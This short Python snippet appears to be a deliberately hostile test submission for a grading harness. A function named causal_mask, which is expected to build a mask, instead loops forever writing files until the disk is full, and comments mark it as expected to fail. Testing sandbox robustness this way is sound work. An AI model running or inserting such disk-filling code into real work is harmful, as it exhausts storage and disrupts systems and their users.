# It fills the disk with many files.
# fails: causal_mask, masks_together
# %% solution="causal_mask"
def causal_mask(size, device=None):
    number = 0
    while True:
        number += 1
        with open(f"file_{number}", "wb") as file:
            file.write(bytes(1 << 12))
